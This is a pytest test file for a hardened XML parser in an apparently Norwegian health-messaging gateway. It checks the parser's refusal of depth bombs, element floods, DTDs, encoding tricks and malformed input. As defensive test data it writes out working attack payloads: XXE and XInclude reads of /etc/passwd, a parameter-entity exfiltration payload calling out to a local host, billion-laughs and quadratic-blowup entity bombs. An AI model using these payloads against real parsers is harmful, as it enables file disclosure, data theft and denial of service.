"""The hardened parser's limits (mappings/plo/xmlsafe.py), one attack or oddity at a time.

Each refusal is checked for its 8221 code (what the sender's AppRec says), its ``reason`` (which
rule refused it), that it came quickly (a bomb must not be built first and refused after), and
that its text quotes nothing of the document.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest

from gateway.domain.receipt import Refused
from mappings.plo import xmlsafe
from mappings.plo.xmlsafe import (
    MAX_ATTRIBUTES,
    MAX_DEPTH,
    MAX_ELEMENTS,
    XmlRefused,
    parse_xml,
)
from tests.standards import standards_dir

MAX = 4 * 1024 * 1024
#: a name the documents carry; never in an error text
SECRET = "Kari Nordmann 13116900216"
#: comments past the 4 KiB the byte check reads: a DOCTYPE behind them reaches the parser
LONG_PROLOG = b"<?xml version='1.0'?>" + b"<!--" + b"x" * 5000 + b"-->"


def refused(data: bytes, *, max_bytes: int = MAX, **limits: int) -> XmlRefused:
    started = time.perf_counter()
    with pytest.raises(XmlRefused) as info:
        parse_xml(data, max_bytes=max_bytes, **limits)
    assert time.perf_counter() - started < 2.0, "refused, but only after building it"
    assert isinstance(info.value, Refused), "callers map Refused to AppRec/4xx"
    assert SECRET not in str(info.value)
    assert "/etc/passwd" not in str(info.value)
    assert "root:" not in str(info.value)
    return info.value


def code_and_reason(r: XmlRefused) -> tuple[str, str]:
    (error,) = r.errors
    return error.code, r.reason


def nested(levels: int) -> bytes:
    return b"<a>" * levels + SECRET.encode() + b"</a>" * levels


# -- depth -------------------------------------------------------------------------------


def test_depth_at_the_limit_parses() -> None:
    assert parse_xml(nested(MAX_DEPTH), max_bytes=MAX).tag == "a"


def test_depth_past_the_limit_is_refused() -> None:
    r = refused(nested(MAX_DEPTH + 1))
    assert code_and_reason(r) == ("T99", "depth")
    assert str(MAX_DEPTH) in (r.errors[0].detail or "")


@pytest.mark.parametrize("levels", [300, 100_000, 1_000_000])
def test_depth_bomb_is_refused_by_our_limit_not_libxml2s(levels: int) -> None:
    """libxml2 stops at 256 in the same chunk: the answer still names our limit."""
    assert code_and_reason(refused(b"<a>" * levels, max_bytes=10 * MAX)) == ("T99", "depth")


# -- elements and attributes -------------------------------------------------------------


def test_elements_at_the_limit_parse() -> None:
    document = b"<r>" + b"<a/>" * (MAX_ELEMENTS - 1) + b"</r>"
    assert len(parse_xml(document, max_bytes=MAX)) == MAX_ELEMENTS - 1


def test_elements_past_the_limit_are_refused() -> None:
    document = b"<r>" + b"<a/>" * MAX_ELEMENTS + b"</r>"
    assert code_and_reason(refused(document)) == ("T99", "elements")


def test_an_element_flood_is_stopped_early(monkeypatch: pytest.MonkeyPatch) -> None:
    """4 MB of ``<a/>`` is a million elements (~150 MB of tree): the parser is stopped one
    chunk past the limit, not left to build it all and refused after."""
    fed: list[int] = []
    new_parser = xmlsafe._new_parser

    class Recording:
        def __init__(self) -> None:
            self.parser = new_parser()

        def feed(self, data: bytes) -> None:
            fed.append(len(data))
            self.parser.feed(data)

        def __getattr__(self, name: str) -> object:
            return getattr(self.parser, name)

    monkeypatch.setattr(xmlsafe, "_new_parser", Recording)
    document = b"<r>" + b"<a/>" * (MAX // 4 - 2) + b"</r>"
    assert code_and_reason(refused(document)) == ("T99", "elements")
    assert sum(fed) <= 3 + 4 * MAX_ELEMENTS + xmlsafe._CHUNK
    assert sum(fed) < len(document) / 10


def test_attributes_past_the_limit_are_refused() -> None:
    many = b"".join(b'<a x="1" y="2" z="3"/>' for _ in range(MAX_ATTRIBUTES // 3 + 1))
    assert code_and_reason(refused(b"<r>" + many + b"</r>")) == ("T99", "attributes")


def test_many_attributes_on_one_element_are_refused_without_quadratic_time() -> None:
    """A hash-collision or duplicate-check blowup would show here as seconds."""
    attributes = b" ".join(b"a%d='1'" % i for i in range(MAX_ATTRIBUTES + 1))
    assert code_and_reason(refused(b"<r " + attributes + b"/>")) == ("T99", "attributes")


def test_many_namespace_declarations_parse_in_linear_time() -> None:
    declarations = b" ".join(b'xmlns:p%d="urn:x:%d"' % (i, i) for i in range(100_000))
    started = time.perf_counter()
    parse_xml(b"<r " + declarations + b"/>", max_bytes=MAX)
    assert time.perf_counter() - started < 2.0


def test_limits_can_be_set_by_the_caller() -> None:
    assert code_and_reason(refused(nested(4), max_depth=3)) == ("T99", "depth")
    assert code_and_reason(refused(b"<r><a/><a/></r>", max_elements=2)) == ("T99", "elements")
    assert code_and_reason(refused(b"<r a='1' b='2'/>", max_attributes=1)) == (
        "T99",
        "attributes",
    )


# -- size, text and names -----------------------------------------------------------------


def test_a_document_of_exactly_max_bytes_parses() -> None:
    document = b"<a>" + b"x" * (1000 - 7) + b"</a>"
    assert len(document) == 1000
    assert parse_xml(document, max_bytes=1000).tag == "a"


def test_one_byte_more_is_refused_before_parsing() -> None:
    document = b"<a>" + b"x" * (1001 - 7) + b"</a>"
    assert code_and_reason(refused(document, max_bytes=1000)) == ("T99", "size")


def test_oversized_document_is_refused_before_a_byte_is_parsed() -> None:
    document = b"<a>" * (50 * 1024 * 1024)
    started = time.perf_counter()
    r = refused(document)
    assert code_and_reason(r) == ("T99", "size")
    assert time.perf_counter() - started < 0.1


def test_a_huge_text_node_is_refused_by_libxml2s_limit() -> None:
    """``huge_tree`` stays off: a text node over 10 MB is refused (a caller that allows more
    bytes than that does not lift it)."""
    document = b"<a>" + b"x" * 11_000_000 + b"</a>"
    assert code_and_reason(refused(document, max_bytes=len(document))) == ("T99", "limit")


def test_a_huge_name_is_refused() -> None:
    assert code_and_reason(refused(b"<" + b"a" * 60_000 + b"/>")) == ("T99", "limit")


# -- DTDs and entities ---------------------------------------------------------------------

LOCAL_FILE_XXE = (
    b'<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>',
    "xxe-local-file",
)
EXTERNAL_DTD = (b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', "external-dtd")
NETWORK_DTD = (b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd"><a/>', "network-dtd")
PARAMETER_ENTITY = (
    b'<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><a/>',
    "parameter-entity",
)
PARAMETER_ENTITY_EXFILTRATION = (
    b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd">'
    b"<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %e; %x;]><a/>",
    "parameter-entity-exfiltration",
)
BILLION_LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY l0 "lol">'
    + b"".join(b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10))
    + b"]><l>&l9;</l>",
    "billion-laughs",
)
QUADRATIC_BLOWUP = (
    b'<!DOCTYPE q [<!ENTITY a "' + b"x" * 100_000 + b'">]><q>' + b"&a;" * 30_000 + b"</q>",
    "quadratic-blowup",
)
ATTACKS = [LOCAL_FILE_XXE, EXTERNAL_DTD, NETWORK_DTD, PARAMETER_ENTITY]
ATTACKS += [PARAMETER_ENTITY_EXFILTRATION, BILLION_LAUGHS, QUADRATIC_BLOWUP]


@pytest.mark.parametrize(
    "prolog", [b"", b'<?xml version="1.0"?>', LONG_PROLOG], ids=["bare", "declared", "long-prolog"]
)
@pytest.mark.parametrize(("document", "name"), ATTACKS, ids=[name for _, name in ATTACKS])
def test_any_dtd_is_refused_and_nothing_in_it_resolved(
    prolog: bytes, document: bytes, name: str
) -> None:
    """Behind a long prolog the byte check does not see the DOCTYPE: the parser reads it
    without resolving or expanding anything, and the document is refused after."""
    assert code_and_reason(refused(prolog + document, max_bytes=10 * MAX)) == ("T99", "dtd")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_dtd_hidden_by_utf16_is_refused(encoding: str) -> None:
    document = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM '
        '"file:///etc/passwd">]><a>&x;</a>'
    ).encode(encoding)
    assert code_and_reason(refused(document)) == ("T99", "dtd")


UTF7_DECLARATION = b"<?xml version='1.0' encoding='UTF-7'?>"


@pytest.mark.parametrize(
    "encode",
    [
        pytest.param(lambda s: LONG_PROLOG + s.encode(), id="long-prolog"),
        pytest.param(lambda s: s.encode("utf-16"), id="utf-16"),
        pytest.param(lambda s: s.encode("utf-32-le"), id="utf-32-unmarked"),
        pytest.param(
            lambda s: UTF7_DECLARATION + s.replace("<!", "+ADwAIQ-").encode(),
            id="utf-7",
        ),
    ],
)
def test_no_file_a_doctype_names_is_read(tmp_path: Path, encode: Callable[[str], bytes]) -> None:
    """A DTD file that is no DTD: had the parser read it, the answer would be T01 (its syntax
    error), not T99 dtd. (lxml's ``collect_ids=False`` did read it, ``load_dtd=False`` or not.)"""
    dtd = tmp_path / "not-a.dtd"
    dtd.write_bytes(b"this is <no dtd")
    document = encode(f'<!DOCTYPE a SYSTEM "{dtd.as_uri()}"><a/>')
    assert code_and_reason(refused(document)) == ("T99", "dtd")


def test_an_undeclared_entity_is_not_well_formed() -> None:
    assert code_and_reason(refused(b"<a>&xxe;</a>")) == ("T01", "syntax")


def test_xinclude_is_never_processed() -> None:
    """An ``xi:include`` stays an element (which the schemas refuse): nothing is read."""
    document = (
        b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/>'
        b'<xi:include href="http://127.0.0.1:9/x.xml"/></a>'
    )
    root = parse_xml(document, max_bytes=MAX)
    assert [child.tag for child in root] == ["{http://www.w3.org/2001/XInclude}include"] * 2
    assert "".join(root.itertext()) == ""


# -- encodings -----------------------------------------------------------------------------

NAME = "Ærlig Øystein Åsen"


def declared(encoding: str) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?><a>{NAME}</a>'


@pytest.mark.parametrize(
    ("make", "what"),
    [
        (lambda: declared("UTF-8").encode(), "utf-8"),
        (lambda: f"<a>{NAME}</a>".encode(), "utf-8 undeclared"),
        (lambda: b"\xef\xbb\xbf" + declared("UTF-8").encode(), "utf-8 bom"),
        (lambda: b"\xef\xbb\xbf" + f"<a>{NAME}</a>".encode(), "utf-8 bom undeclared"),
        (lambda: declared("UTF-16").encode("utf-16"), "utf-16 bom"),
        (lambda: declared("UTF-16").encode("utf-16-le"), "utf-16-le no bom"),
        (lambda: declared("UTF-16").encode("utf-16-be"), "utf-16-be no bom"),
        (lambda: declared("ISO-8859-1").encode("latin-1"), "latin-1"),
        (lambda: declared("iso-8859-15").encode("iso8859-15"), "latin-9"),
        (lambda: declared("windows-1252").encode("cp1252"), "windows-1252"),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
def test_the_encodings_taken_read_the_names_right(make: Callable[[], bytes], what: str) -> None:
    assert parse_xml(make(), max_bytes=MAX).text == NAME


@pytest.mark.parametrize(
    ("document", "code"),
    [
        pytest.param(b"\xef\xbb\xbf" + declared("UTF-16").encode(), "T01", id="utf8-bom-says-16"),
        pytest.param(
            b"\xef\xbb\xbf" + declared("ISO-8859-1").encode(), "T01", id="utf8-bom-latin1"
        ),
        pytest.param(declared("UTF-8").encode("utf-16"), "T01", id="utf16-bom-says-8"),
        pytest.param(
            b"\xfe\xff" + declared("UTF-16LE").encode("utf-16-be"),
            "T01",
            id="utf16be-bom-says-le",
        ),
        pytest.param(declared("UTF-32").encode("utf-32"), "T99", id="utf32-bom"),
        pytest.param(declared("UTF-32").encode("utf-32-le"), "T99", id="utf32-no-bom"),
        pytest.param(b'<?xml version="1.0" encoding="UTF-7"?><a>+AMY-</a>', "T99", id="utf7"),
        pytest.param(
            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE a+AD4-<a/>',
            "T99",
            id="utf7-hidden-doctype",
        ),
        pytest.param(declared("IBM037").encode("cp037"), "T99", id="ebcdic"),
        pytest.param(b'<?xml version="1.0" encoding="X-NO-SUCH"?><a/>', "T99", id="unknown"),
        pytest.param(b"\xef\xbb\xbf" + declared("X-NO-SUCH").encode(), "T99", id="bom-unknown"),
    ],
)
def test_other_encodings_and_contradictions_are_refused(document: bytes, code: str) -> None:
    r = refused(document)
    assert r.errors[0].code == code
    assert r.reason in {"encoding", "dtd"}


def test_latin1_bytes_declared_utf8_are_not_well_formed() -> None:
    assert code_and_reason(refused(declared("UTF-8").encode("latin-1"))) == ("T01", "syntax")


# -- bytes that are no XML -----------------------------------------------------------------


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(b"<a>\x00</a>", id="nul-in-text"),
        pytest.param(b"\x00<a/>", id="nul-first"),
        pytest.param(b"<a/>\x00", id="nul-after-root"),
        pytest.param(b"<a\x00/>", id="nul-in-tag"),
        pytest.param(b"<a>&#0;</a>", id="nul-char-ref"),
        pytest.param(b"<a>\x01</a>", id="control-char"),
        pytest.param(b"<a/><b/>", id="two-roots"),
        pytest.param(b"<a>\xed\xa0\x80</a>", id="utf8-lone-surrogate"),
        pytest.param(b"<a>\xc0\xbc</a>", id="utf8-overlong"),
    ],
)
def test_bytes_no_xml_may_hold_are_not_well_formed(document: bytes) -> None:
    r = refused(document)
    assert code_and_reason(r) == ("T01", "syntax")
    assert "line" in (r.errors[0].detail or "")


@pytest.mark.parametrize("document", [b"", b" \n", b"\xef\xbb\xbf"])
def test_empty_is_t01(document: bytes) -> None:
    assert refused(document).errors[0].code == "T01"


def test_comments_and_processing_instructions_are_dropped() -> None:
    """Mappings walk children: each one is an element, never a comment or a PI."""
    root = parse_xml(b"<?pi x?><!--c--><a><!--c--><b/><?pi y?>t<!--c-->u</a>", max_bytes=MAX)
    assert [child.tag for child in root] == ["b"]
    assert root[0].tail == "tu"


def test_cdata_is_read_as_text() -> None:
    assert parse_xml(b"<a><![CDATA[<b>&amp;</b>]]></a>", max_bytes=MAX).text == "<b>&amp;</b>"


def test_a_real_sample_still_parses() -> None:
    data = (standards_dir() / "samples" / "msghead-dialogmelding-1.1-helsefaglig.xml").read_bytes()
    root = parse_xml(data, max_bytes=MAX)
    assert root.tag == "{http://www.kith.no/xmlstds/msghead/2006-05-24}MsgHead"


def test_a_large_sample_spanning_chunks_parses_unchanged() -> None:
    """Fed in chunks, the tree is the same as a whole parse (a chunk border in a name, a
    multi-byte character, an attribute)."""
    unit = '<e k="ø-verdi" lang="nb">Ærlig Åsen &amp; søsken</e>'
    document = f'<?xml version="1.0" encoding="UTF-8"?><r>{unit * 5000}</r>'.encode()
    assert len(document) > 3 * 64 * 1024
    root = parse_xml(document, max_bytes=MAX)
    assert len(root) == 5000
    assert {(e.get("k"), e.text) for e in root} == {("ø-verdi", "Ærlig Åsen & søsken")}
